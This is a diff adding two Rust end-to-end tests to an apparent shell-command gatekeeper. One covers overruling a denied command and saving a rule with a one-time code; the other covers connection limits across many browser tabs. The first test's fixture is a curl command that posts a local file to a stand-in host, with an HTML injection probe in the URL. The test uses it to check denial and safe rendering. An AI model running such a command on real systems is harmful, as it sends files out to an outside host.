@@ -325,6 +325,112 @@ fn a_grant_takes_a_code_and_is_seen_and_ended() {
     assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
 }
 
+/// What the inspector denied is overruled, and a rule is drafted from it, shown with what the record says, and saved with a code.
+#[test]
+fn a_denial_is_overruled_and_a_rule_is_saved_with_a_code() {
+    let site = Site::new("");
+    let _host = site.serve();
+    site.raise("default", "corruption");
+    let command = "curl -d @notes https://x.example/<img src=x>";
+    std::fs::write(site.work().join("notes"), "n").unwrap();
+    let quoted = "curl -d @notes 'https://x.example/<img src=x>'";
+    for _ in 0..2 {
+        site.check(quoted).expect(2);
+    }
+    let mut browser = Browser::start();
+    browser.open("a", &link(&site));
+    browser.sees("a", "Nothing is held.");
+    browser.read("a", "document.getElementById('denied').open = true");
+    browser.wait("a", "document.querySelectorAll('#denials details').length > 0");
+    browser.read("a", "document.querySelector('#denials details').open = true");
+    browser.wait("a", "document.querySelector('#denials .rule') !== null");
+    browser.read("a", "document.querySelector('#denials .rule').open = true");
+    browser.wait("a", "document.querySelector('#denials .rule form') !== null");
+    for part in ["argv = [\"curl\"", "exact = true", "On record it matches 2 commands", "2 × deny", "and nowhere else"] {
+        browser.sees("a", part);
+    }
+    assert_eq!(browser.read("a", "document.querySelectorAll('main img').length"), json!(0), "{command}");
+    assert_eq!(browser.barriers("a"), Vec::<Value>::new());
+    let file = site.host_toml();
+    let before = std::fs::read_to_string(&file).unwrap();
+    let submits = |browser: &mut Browser, code: &str| {
+        browser.read("a", &format!(
+            "(() => {{ const f = document.querySelector('#denials .rule form'); f.querySelector('input').value = '{code}'; f.requestSubmit(); return true; }})()"
+        ));
+    };
+    submits(&mut browser, "");
+    browser.sees("a", "you have no sheet of codes");
+    let said = browser.read("a", "document.getElementById('said').textContent");
+    let account = said.as_str().unwrap().split("bashgate codes new ").nth(1).unwrap();
+    let account = account.split([' ', ')']).next().unwrap().to_owned();
+    let made: Value = serde_json::from_str(&site.cli(["codes", "new", &account, "--json"]).expect(0).stdout).unwrap();
+    submits(&mut browser, "");
+    browser.sees("a", "code 1 of your sheet, which saves the rule");
+    submits(&mut browser, "00000000");
+    browser.sees("a", "is not code 1");
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), before);
+    submits(&mut browser, made["codes"][0].as_str().unwrap());
+    browser.sees("a", "Written into");
+    let after = std::fs::read_to_string(&file).unwrap();
+    assert!(after.starts_with(before.trim_end()) && after.contains("\nexact = true\n"), "{after}");
+    assert!(after.contains("drafted from"), "{after}");
+    assert!(site.audit().iter().any(|record| record["detail"]["event"] == "rule saved"));
+    site.cli(["config", "check"]).expect(0);
+    // A second time there is nothing to add.
+    submits(&mut browser, "");
+    browser.sees("a", "code 2 of your sheet");
+    submits(&mut browser, made["codes"][1].as_str().unwrap());
+    browser.sees("a", "has this rule already");
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), after);
+    // A code for a rule approves nothing, and overruling is once.
+    browser.read("a", "document.querySelector('#denials button.approve').click()");
+    until("the word to be on record", || {
+        site.audit().into_iter().find(|record| record["kind"] == "answer" && record["detail"]["by"] == account.as_str())
+    });
+    site.check(quoted).expect(0);
+    site.check(quoted).expect(2);
+    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
+}
+
+/// A browser has six connections for all tabs of an address: who opens more than four is told, and none waits without a word.
+#[test]
+fn many_tabs_do_not_starve_each_other() {
+    let (site, _host) = site("");
+    let mut browser = Browser::start();
+    browser.open("1", &link(&site));
+    browser.sees("1", "Live");
+    let address = browser.read("1", "location.origin").as_str().unwrap().to_owned();
+    for tab in ["2", "3", "4", "5", "6", "7"] {
+        browser.act(&json!({"do": "open", "tab": tab, "url": address, "in": "1"}));
+    }
+    let live = |browser: &mut Browser| {
+        let tabs = ["1", "2", "3", "4", "5", "6", "7"];
+        let states = tabs.map(|tab| browser.read(tab, "document.getElementById('state').textContent"));
+        states.iter().filter(|state| *state == "Live").count()
+    };
+    let other = until("one that is told", || {
+        let told = |tab: &&str| {
+            let state = browser.read(tab, "document.getElementById('state').textContent");
+            state.as_str().unwrap().contains("tabs of this page are live already")
+        };
+        ["2", "3", "4", "5", "6", "7"].into_iter().find(told)
+    });
+    until("four that are live", || (live(&mut browser) == 4).then_some(()));
+    let running = site.check_later(ASKED);
+    let id = site.held(ASKED);
+    browser.wait("1", &format!("{} !== null", card(&id)));
+    browser.act(&json!({"do": "front", "tab": "1"}));
+    settles();
+    browser.press("1", "j");
+    browser.press("1", "d");
+    running.join().unwrap().expect(2);
+    // One that is closed makes room.
+    for tab in ["1", "2", "3", "4", "5", "6", "7"].into_iter().filter(|tab| *tab != other) {
+        browser.act(&json!({"do": "close", "tab": tab}));
+    }
+    browser.wait(other, "document.getElementById('state').textContent === 'Live'");
+}
+
 /// A host that is started again knows no session; the page says so, and a new link brings all tabs back.
 #[test]
 fn a_host_that_is_started_again_and_tabs_that_are_stale() {
